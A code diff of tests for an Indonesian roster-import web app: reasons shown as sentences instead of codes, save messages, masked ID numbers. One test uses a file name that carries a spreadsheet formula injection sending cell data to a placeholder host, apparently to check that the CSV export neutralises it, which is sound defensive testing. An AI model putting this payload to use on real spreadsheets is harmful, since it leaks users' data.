@@ -17,6 +17,7 @@ from messy_lists import GURU_EXPECTED, add_participants, guru_list, real_warehou
 from ucj import fmt
 from ucj.accounts import Store, accounts_path
 from ucj.ingest import rosters
+from ucj.ingest.checks import NOTES, REASONS
 from ucj.warehouse import write
 
 DATA_DATE = dt.date(2025, 4, 15)
@@ -99,8 +100,8 @@ def test_report_matches_the_expected_counts(page):
         "Ganda di berkas": "2", "Sudah di daftar": "0", "Sudah peserta": "3", "Baru": fmt.number(GURU_EXPECTED["new"] + 1)}
     sheet = [s for s in at.selectbox if s.label == "Lembar"][0]
     assert sheet.value == "Data Guru"
-    reasons = frame_with(at, "Kode")
-    assert dict(zip(reasons["Kode"], reasons["Baris"])) == LABUHANBATU_REASONS
+    reasons = frame_with(at, "Alasan")
+    assert dict(zip(reasons["Alasan"], reasons["Baris"])) == {REASONS[c]: n for c, n in LABUHANBATU_REASONS.items()}
     rows = frame_with(at, "NIK")
     assert len(rows) == 35 and not rows["NIK"].str.fullmatch(r"\d{15,17}").any()
     assert "1210********0101" in set(rows["NIK"])
@@ -113,8 +114,8 @@ def test_correcting_a_column_changes_the_report(page):
     desa = [s for s in at.selectbox if s.label == "Desa/Kelurahan"][0]
     assert desa.value == "Desa/Kelurahan"
     desa.set_value("(tidak ada)").run()
-    reasons = frame_with(at, "Kode")
-    assert dict(zip(reasons["Kode"], reasons["Baris"]))["desa_kosong"] == 35  # the desa is checked on every row, whatever the NIK
+    reasons = frame_with(at, "Alasan")
+    assert dict(zip(reasons["Alasan"], reasons["Baris"]))[REASONS["desa_kosong"]] == 35  # the desa is checked on every row, whatever the NIK
     assert cards(at)["Baru"] == "0"
 
 
@@ -126,10 +127,11 @@ def test_commit_then_history_and_kesenjangan(page):
     assert at.button(key="impor_simpan").label == "Simpan 15 orang ke gudang data"
     at.button(key="impor_simpan").click().run()
     assert not at.exception
-    assert at.success[0].value.startswith("Disimpan sebagai impor #2: 15 orang masuk daftar Guru honorer")
+    assert at.success[0].value.startswith("Tersimpan sebagai impor #2: 15 orang ditambah ke daftar Guru honorer")
     history = at.dataframe[-1].value
     assert list(history["Oleh"]) == ["Petugas Dinas", "penguji"] and list(history["Baru"]) == [12, 4]
-    # the page now says the same file would change nothing
+    # the same file again: the page says it would change nothing
+    at.file_uploader(key="impor_berkas_1").upload("guru.xlsx", guru_xlsx()).run()
     assert any("sudah diimpor sebagai impor #2" in i.value for i in at.info)
     con = duckdb.connect(str(path), read_only=True)  # the version the app published
     try:
@@ -139,14 +141,63 @@ def test_commit_then_history_and_kesenjangan(page):
     assert stored == 15
     sha = hashlib.sha256(guru_xlsx()).hexdigest()
     log = [(e.action, e.detail, e.rows) for e in Store(accounts_path(path)).log(name="admin") if e.action != "masuk"]
-    # the check before the save counts its 35 rows; the save and the page's check after it (which shows the file is
-    # now imported) log them without counting them again
+    # the check before the save counts its 35 rows; the save and the check of the same file uploaded again (which
+    # shows the file is now imported) log them without counting them again
     assert log == [("periksa", f"{sha} guru_honorer 35 baris", 0), ("impor", f"{sha} guru_honorer 35 baris", 0),
                    ("periksa", f"{sha} guru_honorer 35 baris", 35)]
     at.switch_page("app_pages/kesenjangan.py").run()
     groups = frame_with(at, "Kelompok")
     guru = groups[groups["Kelompok"] == "Guru honorer"].iloc[0]
     assert (guru["Dalam daftar"], guru["Belum terlindungi"]) == (15, 12)
+
+
+def codes_shown(at) -> set[str]:
+    """Reason and note codes (nik_panjang_salah, ...) anywhere a person reads: text, tables, cards."""
+    codes = set(REASONS) | set(NOTES)
+    texts = [e.value for kind in ("markdown", "caption", "info", "success", "warning", "error", "subheader")
+             for e in getattr(at, kind)]
+    texts += [str(cell) for d in at.dataframe for column in d.value.columns
+              for cell in [column, *d.value[column].tolist()]]
+    texts += [m.value for m in at.metric] + [m.label for m in at.metric]
+    return {code for code in codes for text in texts if code in text}
+
+
+def test_reasons_are_sentences_on_the_page_and_in_the_report(page):
+    """Issue 15 point 5: a person reads why a row was refused in a sentence, never a code such as nik_panjang_salah:
+    not in the reasons' table, not in the rows, not in the per-row XLSX report."""
+    from openpyxl import load_workbook
+
+    at, _ = page
+    assert codes_shown(at) == set()
+    plan = at.session_state["impor_rencana_cache"][1]
+    book = load_workbook(io.BytesIO(rosters.report_xlsx(plan)))
+    cells = {str(c.value) for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None}
+    assert {code for code in set(REASONS) | set(NOTES) for text in cells if code in text} == set()
+    assert "NIK tidak 16 angka" in cells
+
+
+def test_after_saving_the_page_shows_what_was_saved_and_no_dry_run(page):
+    """Issue 15 point 5: after Simpan the page says 'Tersimpan' with what changed, the list, its group, region and
+    date; no heading says 'uji coba' any more, and the saved state stays until another file is uploaded."""
+    at, _ = page
+    at.text_input(key="impor_oleh").input("Petugas Dinas").run()
+    at.button(key="impor_simpan").click().run()
+    assert not at.exception
+    saved = ("Tersimpan sebagai impor #2: 15 orang ditambah ke daftar Guru honorer (Kabupaten Labuhanbatu), "
+             "bertanggal 15 April 2025: 12 belum peserta dan 3 sudah peserta. 0 diubah, 0 dihapus (impor daftar "
+             "hanya menambah orang). Tidak disimpan: 18 baris tidak valid dan 2 ganda di berkas.")
+    assert [s.value for s in at.success] == [saved]
+    headings = [h.value for h in at.subheader]
+    assert "Tersimpan" in headings
+    assert not [h for h in headings if "uji coba" in h.lower()]
+    assert not [m for m in at.markdown if "uji coba" in m.value.lower()]
+    assert cards(at) == {"Baris dibaca": "35", "Ditambah": "15", "Diubah": "0", "Dihapus": "0",
+                         "Tidak disimpan": "20"}
+    assert [b for b in at.button if b.key == "impor_simpan"] == []
+    assert any(c.value.startswith("Berkas guru") and "Petugas Dinas" in c.value for c in at.caption)
+    assert codes_shown(at) == set()
+    at.run()  # any other click: the saved state stays
+    assert [s.value for s in at.success] == [saved]
 
 
 def test_riwayat_keeps_no_nik_of_a_file_name_and_its_csv_runs_no_formula(page, monkeypatch):
@@ -180,9 +231,9 @@ def test_riwayat_keeps_no_nik_of_a_file_name_and_its_csv_runs_no_formula(page, m
     history = at.dataframe[-1].value
     assert list(history["Berkas"]) == ["daftar_#_budi.xlsx", "=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"klik\").csv",
                                        "peserta_daftar.csv"]
-    text = downloads["riwayat_impor.csv"]().decode("utf-8")  # made on click (ui.components.downloads)
+    text = downloads["riwayat_impor.csv"]().decode("utf-8-sig")  # made on click (ui.components.downloads)
     assert "daftar_#_budi.xlsx" in text and "1210010101900001" not in text
-    assert "\n'=HYPERLINK" not in text and ",\"'=HYPERLINK(\"\"http://contoh.invalid/?d=\"\"&A1,\"\"klik\"\").csv\"," in text
+    assert "\n'=HYPERLINK" not in text and ";\"'=HYPERLINK(\"\"http://contoh.invalid/?d=\"\"&A1,\"\"klik\"\").csv\";" in text
 
 
 def test_an_unrecognised_nik_header_can_be_pointed_at(demo_copy, monkeypatch):
